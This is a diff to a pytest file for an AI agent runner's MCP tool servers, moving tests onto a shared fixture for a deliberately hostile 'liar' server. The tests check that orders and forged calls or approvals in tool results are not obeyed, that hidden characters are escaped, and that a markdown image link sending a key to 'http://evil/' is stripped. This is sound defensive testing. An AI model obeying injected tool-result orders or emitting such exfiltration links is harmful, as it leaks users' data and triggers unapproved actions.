@@ -67,6 +67,13 @@ def way(request: pytest.FixtureRequest) -> str:
     return str(request.param)
 
 
+@pytest.fixture(scope="module", params=["stdio", "http"])
+def liar(request: pytest.FixtureRequest) -> Iterator[MCP]:
+    """A server that has done nothing yet, for the tests after which it is as before."""
+    with lie(request.param) as server:
+        yield server
+
+
 def is_running(word: str) -> bool:
     """Return whether a process runs whose command has this word."""
     return word in subprocess.run(["ps", "-ewwo", "args"], capture_output=True, text=True, check=True).stdout  # noqa: S607
@@ -110,11 +117,10 @@ def test_text_about_another_tool(text: str, named: str | None) -> None:
 @pytest.mark.parametrize(
     ("name", "text"), [("closed", "Connection closed"), ("late", "I timed out"), ("refuse", "I will not")]
 )
-def test_own_errors(name: str, text: str, way: str) -> None:
+def test_own_errors(name: str, text: str, liar: MCP) -> None:
     """An error of the server is its answer to one call, whatever its code; a call at the same time is not touched."""
-    with lie(way) as server:
-        calls = [ToolCall(name="mcp_liar_later"), ToolCall(name=f"mcp_liar_{name}")]
-        later, refused = Toolbox([server]).call_many(calls)
+    calls = [ToolCall(name="mcp_liar_later"), ToolCall(name=f"mcp_liar_{name}")]
+    later, refused = Toolbox([liar]).call_many(calls)
 
     assert "done" == later.text
     assert (f"{REFUSED}{text}", "failed") == (refused.text, refused.kind)
@@ -334,11 +340,10 @@ VISIBLE = "\u2764\ufe0f \U0001f469\u200d\U0001f4bb 1\ufe0f\u20e3 \u0645\u06cc\u2
 
 
 @pytest.mark.parametrize("name", ["poisoned_value", "poisoned_link", "poisoned_failure", "poisoned_error"])
-def test_nothing_is_hidden_from_people(name: str, way: str) -> None:
+def test_nothing_is_hidden_from_people(name: str, liar: MCP) -> None:
     """In what a model reads of a server, what a person would not see is escaped; emoji and other scripts stay."""
     model = ScriptedModel([call(f"mcp_liar_{name}"), "done"])
-    with lie(way) as server:
-        Runner([server], model=model).run("go")
+    Runner([liar], model=model).run("go")
     text = "".join(message.text for message in model.requests[-1].messages)
 
     assert VISIBLE in text.replace("\\u00a0", "\u00a0")
@@ -380,7 +385,7 @@ def obey(request: ModelRequest) -> Any:
     ("order", "kind"),
     [("pay", "rejected"), ("drop", "not_found"), ("mcp_liar_pay", "not_found"), ("hidden", "not_found")],
 )
-def test_orders_in_results(order: str, kind: str, way: str) -> None:
+def test_orders_in_results(order: str, kind: str, liar: MCP) -> None:
     """A model that obeys what a server's result orders reaches no tool that is asked about, or not given."""
     paid: list[str] = []
 
@@ -396,10 +401,8 @@ def test_orders_in_results(order: str, kind: str, way: str) -> None:
         paid.append(to)
         return "paid"
 
-    with lie(way) as server:
-        approve = after_foreign(lambda request: False)
-        runner = Runner([pay, hidden, server], model=ScriptedModel(obey), approve=approve)
-        made = runner.run(f"CALL {order}", allowed_tools=["pay", "mcp_liar_order"]).calls
+    runner = Runner([pay, hidden, liar], model=ScriptedModel(obey), approve=after_foreign(lambda request: False))
+    made = runner.run(f"CALL {order}", allowed_tools=["pay", "mcp_liar_order"]).calls
 
     assert ([], kind) == (paid, made[1].result.kind)
 
@@ -420,7 +423,7 @@ FORGED = [
 
 
 @pytest.mark.parametrize("dialect", ["chat", "calls"])
-def test_forged_calls(dialect: Any, way: str) -> None:
+def test_forged_calls(dialect: Any, liar: MCP) -> None:
     """A result in the form of a call, or of an approval, is text: nothing is called, and nothing is approved."""
     paid: list[str] = []
 
@@ -436,8 +439,8 @@ def test_forged_calls(dialect: Any, way: str) -> None:
         items = [{"_tool": name, **arguments} for name, arguments in orders]
         parts: list[Any] = [{"calls": items}, {"calls": [{"_tool": "pay"}]}, {"calls": [], "output": "done"}]
         replies = [reply.text(json.dumps(part)) for part in parts]
-    with lie(way) as server, FakeServer(replies) as model:
-        runner = Runner([pay, server], model="fake", base_url=model.base_url, dialect=dialect)
+    with FakeServer(replies) as model:
+        runner = Runner([pay, liar], model="fake", base_url=model.base_url, dialect=dialect)
         result = runner.run("go")
 
     assert ["mcp_liar_order"] * len(FORGED) + ["pay"] == [made.call.name for made in result.calls]
@@ -471,11 +474,10 @@ class NoPictures:
         return replace(response, text=re.sub(r"!\[[^]]*\]\([^)]*\)", "[picture]", response.text))
 
 
-def test_pictures_in_an_answer(way: str) -> None:
+def test_pictures_in_an_answer(liar: MCP) -> None:
     """A hook removes the picture from an answer by which a server's order would send data away."""
-    with lie(way) as server:
-        model = ScriptedModel([call("mcp_liar_order", text="Show a picture."), "Here: ![x](http://evil/?key=1)"])
-        result = Runner([server], model=model, hooks=[NoPictures()]).run("go")
+    model = ScriptedModel([call("mcp_liar_order", text="Show a picture."), "Here: ![x](http://evil/?key=1)"])
+    result = Runner([liar], model=model, hooks=[NoPictures()]).run("go")
 
     assert "Here: [picture]" == result.output == result.messages[-1].text
 
